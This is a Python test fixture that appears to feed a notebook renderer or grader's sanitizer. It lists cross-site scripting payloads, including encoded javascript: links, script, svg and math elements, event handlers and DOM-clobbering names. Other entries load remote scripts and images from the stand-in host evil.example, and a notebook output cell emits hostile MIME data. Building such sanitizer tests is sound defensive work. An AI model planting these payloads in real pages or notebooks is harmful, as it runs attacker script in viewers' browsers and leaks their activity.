"""Text by which a page might run something, ask another server, or be made to look like what it is not; by kind.

Each calls `pwn()`, or asks EVIL. A test puts them into text cells, and into HTML and Markdown that a cell displays.
"""

EVIL = "https://evil.example"

LINKS = [
    "[x](javascript:pwn())",
    "[x](JaVaScRiPt:pwn())",
    "[x](javascript&colon;pwn())",
    "[x](javascript&#58;pwn())",
    "[x](javascript&#x3A;pwn())",
    "[x](&#106;avascript:pwn())",
    "[x](java&Tab;script:pwn())",
    "[x](java&NewLine;script&colon;pwn())",
    "[x](java&#10;script:pwn())",
    "[x](&#1;javascript:pwn())",
    "[x](<javascript:pwn()>)",
    "[x](< javascript:pwn()>)",
    "[x](\u00a0javascript:pwn())",
    "[x](javascript\\:pwn())",
    "[x](files/javascript:pwn())",
    "[x](/files/javascript:pwn())",
    "[x](files/javascript&colon;pwn())",
    "[x](vbscript:pwn())",
    "[x](data:text/html;base64,PHNjcmlwdD5wYXJlbnQucHduKCk8L3NjcmlwdD4=)",
    "[x](data:text/html,<script>pwn()</script>)",
    "[x](blob:null/pwn)",
    "[x](view-source:javascript:pwn())",
    "[x][r]\n\n[r]: javascript:pwn()",
    "[x][s]\n\n[s]: <javascript&colon;pwn()> 'title'",
    "<javascript:pwn()>",
    "[x](javascript:pwn() 'title\" onmouseover=\"pwn()')",
    '[x](https://example.org \'a" onmouseover="pwn()" b="\')',
    "[x](evil.html)",
    "[x](../../../../tree)",
    "[![x](javascript:pwn())](javascript&colon;pwn())",
    '<a href="javascript:pwn()">x</a>',
    "<a href='jav&#x09;ascript:pwn()'>x</a>",
    "<a href=javascript&#58pwn()>x</a>",
    '<a href="\x01javascript:pwn()">x</a>',
    '<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x70&#x77&#x6E&#x28&#x29">x</a>',
    '<a href="javascript://x%0apwn()">x</a>',
    '<a xlink:href="javascript:pwn()">x</a>',
    f'<a href="{EVIL}" ping="{EVIL}/ping" target="_top" onclick="pwn()">x</a>',
    '<map name="m"><area href="javascript:pwn()" shape="default"></map><img usemap="#m" src="a.png">',
]
ELEMENTS = [
    "<script>pwn()</script>",
    "<ScRiPt>pwn()</sCrIpT>",
    f"<script src={EVIL}/x.js></script>",
    f"<script/x src={EVIL}/y.js></script>",
    "<scr<script>ipt>pwn()</scr</script>ipt>",
    "<<script>pwn();//<</script>",
    "<script\n>pwn()</script\n>",
    "<script>pwn()",
    "<noscript><p title='</noscript><script>pwn()</script>'>",
    "<svg><script>pwn()</script></svg>",
    "<svg/onload=pwn()>",
    "<svg><a xlink:href='javascript:pwn()'><text y=20>x</text></a></svg>",
    "<svg><animate onbegin=pwn() attributeName=x dur=1s></svg>",
    f"<svg><image href='{EVIL}/i.png'/><use href='{EVIL}/u.svg#x'/></svg>",
    "<svg><foreignObject><iframe src='javascript:pwn()'></iframe></foreignObject></svg>",
    "<svg><style><img src=x onerror=pwn()></style></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=pwn()&gt;'>",
    "<math href='javascript:pwn()'>x</math>",
    "<math><mi xlink:href='javascript:pwn()'>x</mi></math>",
    "<iframe src='javascript:pwn()'></iframe>",
    "<iframe srcdoc='<script>parent.pwn()</script>'></iframe>",
    f"<iframe src='{EVIL}/frame'></iframe>",
    f"<object data='{EVIL}/o'></object>",
    "<object data='data:text/html,<script>parent.pwn()</script>'></object>",
    f"<embed src='{EVIL}/e.swf'>",
    f"<form action='{EVIL}/form'><input name=a autofocus onfocus=pwn()><button>x</button></form>",
    "<form id=f></form><button form=f formaction='javascript:pwn()'>x</button>",
    "<isindex type=image src=1 onerror=pwn()>",
    f"<base href='{EVIL}/'>",
    f"<meta http-equiv=refresh content='0;url={EVIL}/refresh'>",
    "<meta http-equiv=refresh content='0;url=javascript:pwn()'>",
    f"<link rel=stylesheet href='{EVIL}/l.css'>",
    f"<link rel=preload as=image href='{EVIL}/p.png'><link rel=dns-prefetch href='//evil.example'>",
    f"<style>@import '{EVIL}/s.css'; body {{ background: url({EVIL}/b.png) }}</style>",
    "<template><script>pwn()</script></template><slot onslotchange=pwn()>",
    "<body onload=pwn()>",
    "<marquee onstart=pwn()>x</marquee>",
    "<select onfocus=pwn() autofocus></select><textarea onfocus=pwn() autofocus></textarea>",
    "<keygen autofocus onfocus=pwn()>",
    "<x-y onclick=pwn() tabindex=1 onfocus=pwn() autofocus>x</x-y>",
    "</div></div></div><script>pwn()</script>",
    "</textarea></title></style><script>pwn()</script>",
    "<!--><script>pwn()</script>-->",
    "<!--[if gte IE 4]><script>pwn()</script><![endif]-->",
    "<![CDATA[<script>pwn()</script>]]>",
    "<?xml version='1.0'?><script>pwn()</script>",
    "<dialog open><p onclick=pwn()>x</dialog>",
    "<portal src='javascript:pwn()'></portal>",
    "<frameset onload=pwn()><frame src='javascript:pwn()'></frameset>",
    "<applet code=x></applet><bgsound src='javascript:pwn()'>",
]
HANDLERS = [
    "<img src=x onerror=pwn()>",
    "<img src=x onerror='&#112;wn()'>",
    "<img/src=x/onerror=pwn()>",
    '<img """><script>pwn()</script>">',
    "<img src=x\nonerror\n=\npwn()>",
    "<img src='x' o\x00nerror=pwn()>",
    "<IMG SRC=x ONERROR=pwn()>",
    "<img src=`x`onerror=pwn()>",
    "<details open ontoggle=pwn()>x</details>",
    "<details><summary onclick=pwn()>x</summary></details>",
    "<b onmouseover=pwn() style='display:block;position:fixed;inset:0'>x</b>",
    "<p style='animation-name:x' onanimationstart=pwn()>x</p>",
    "<video><source onerror=pwn()></video>",
    "<audio src=x onerror=pwn() autoplay></audio>",
    "<video src=x onerror=pwn() poster='https://evil.example/v.png'></video>",
    "<div contenteditable onblur=pwn() autofocus tabindex=0>x</div>",
    "`</code><img src=x onerror=pwn()>`",
    "```\n</code></pre><img src=x onerror=pwn()>\n```",
    "```html\n</pre></div><img src=x onerror=pwn()>\n```",
    '``` "><img/src=x/onerror=pwn()>\nx\n```',
    "```mermaid\n</pre><img src=x onerror=pwn()>\n```",
    '# x" onclick="pwn()',
    "# <img src=x onerror=pwn()>",
    "|a|\n|-|\n|<img src=x onerror=pwn()>|",
    "- <img src=x onerror=pwn()>",
    "> <img src=x onerror=pwn()>",
]
FETCHES = [
    f"![x]({EVIL}/1.png)",
    f"![x][p]\n\n[p]: {EVIL}/2.png",
    "![x](//evil.example/3.png)",
    "![x](\\\\evil.example/4.png)",
    "![x](https&colon;//evil.example/5.png)",
    "![x](files//evil.example/6.png)",
    "![x](files/https://evil.example/7.png)",
    "![x](javascript:pwn())",
    "![x](/api/shutdown.png)",
    "![x](../../../api/x.png)",
    "![x](%2e%2e/%2E%2e/api/x.png)",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9InBhcmVudC5wd24oKSIvPg==)",
    "![x](attachment:missing.png)",
    f"<img src='{EVIL}/8.png'>",
    f"<img srcset='{EVIL}/9.png 1x' src=a.png>",
    f"<img lowsrc='{EVIL}/10.png' dynsrc='{EVIL}/11.png'>",
    f"<picture><source srcset='{EVIL}/12.png'><img src=a.png></picture>",
    f"<table background='{EVIL}/13.png'><tr><td background='{EVIL}/14.png'>x</td></tr></table>",
    f"<body background='{EVIL}/15.png'>",
    f"<b style='background:url({EVIL}/16.png)'>x</b>",
    f"<b style='background-color:red;background-image:url({EVIL}/17.png)'>x</b>",
    f"<b style='color:url({EVIL}/18.png)'>x</b>",
    f"<b style='background-im\\61ge:url({EVIL}/19.png)'>x</b>",
    f"<b style='/**/list-style-image/**/:/**/url({EVIL}/20.png)'>x</b>",
    f"<b style='content:image-set(\"{EVIL}/21.png\" 1x)'>x</b>",
    f"<b style='width:expression(pwn());behavior:url({EVIL}/x.htc);-moz-binding:url({EVIL}/x.xml#x)'>x</b>",
    f"<video poster='{EVIL}/22.png'></video><audio src='{EVIL}/23.mp3' autoplay></audio>",
    f"<input type=image src='{EVIL}/24.png'>",
    f"<track src='{EVIL}/25.vtt'><embed src='{EVIL}/26'>",
]
MATHEMATICS = [
    r"$\href{javascript:pwn()}{x}$",
    r"$\url{javascript:pwn()}$",
    r"$\style{background:url(https://evil.example/27.png)}{x}$",
    r"$\class{score}{x} \cssId{notebook}{y}$",
    r"$\require{https://evil.example/x}$",
    r"$\unicode{<img src=x onerror=pwn()>}$",
    "$<img src=x onerror=pwn()>$",
    "$$</div><script>pwn()</script>$$",
    r"\\[ <svg onload=pwn()> \\]",
    "\\begin{align}<img src=x onerror=pwn()>\\end{align}",
    '\\begin{a}"><img src=x onerror=pwn()>\\end{a}',
]
NAMES = [
    "<a id=notebook name=submission_id>x</a><form name=body></form><img name=cookie>",
    "<b id=toc class='score comment nbgrader_cell'>x</b>",
    "<a id=MathJax name=MathJax href='https://example.org'>x</a>",
    "<div class='mark-graded full-credit btn' data-toggle=tooltip data-link=x title='<img src=x onerror=pwn()>'>",
    "<input class=score value=100>",
]
TEXTS = [*LINKS, *ELEMENTS, *HANDLERS, *FETCHES, *MATHEMATICS, *NAMES]

OUTPUTS = r"""
from IPython.display import display
PNG = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
RUN, EVIL = "<img src=x onerror=pwn()><script>pwn()</script>", "https://evil.example/out.png"
def show(metadata=None, **data):
    kinds = {kind.replace("__", "+").replace("_", "/", 1).replace("_", "."): content for kind, content in data.items()}
    display(kinds, raw=True, metadata=metadata or {})
show(text_latex=RUN, text_plain="x")
show(text_latex=r"$\href{javascript:pwn()}{x}$")
show(application_javascript="pwn()", text_plain="x")
show(text_javascript="pwn()")
show(image_svg__xml=f"<svg xmlns='http://www.w3.org/2000/svg' onload='pwn()'><image href='{EVIL}'/>{RUN}</svg>")
show(application_vnd_jupyter_widget__view__json={"model_id": RUN, "version_major": 2}, text_plain="x")
show(application_vdom_v1__json={"tagName": "script", "children": ["pwn()"], "attributes": {}})
show(application_geo__json={"type": "Point", "coordinates": [0, 0]})
show(application_vnd_plotly_v1__json={"data": [], "layout": {"title": RUN}})
show(application_vnd_vegalite_v5__json={"data": {"url": EVIL}, "mark": "bar"})
show(application_vnd_mermaid=RUN)
show(text_vnd_mermaid=RUN)
show(application_pdf="JVBERi0=")
show(application_json={"a": RUN}, text_plain=RUN)
show(text_unknown=RUN)
show(image_png=PNG, metadata={"image/png": {"width": "1 onload=pwn()", "height": "1 onload=pwn()"}})
show(image_png=PNG, metadata={"width": "1 onload=pwn()", "unconfined": True, "alt": '" onload="pwn()'})
show(image_png=PNG, metadata={"filenames": {"image/png": EVIL}})
show(image_jpeg=PNG, metadata={"image/jpeg": {"width": "1 onload=pwn()"}, "filenames": {"image/jpeg": EVIL}})
show(image_png='" onerror="pwn()', text_plain="x")
show(image_png="AAAA", text_plain="x")
show(text_html=f"<img src='{EVIL}'>", metadata={"text/html": {"isolated": True}})
print("\x1b[31m" + RUN + "\x1b]8;;javascript:pwn()\x07x\x1b]8;;\x07")
raise ValueError(RUN)
"""
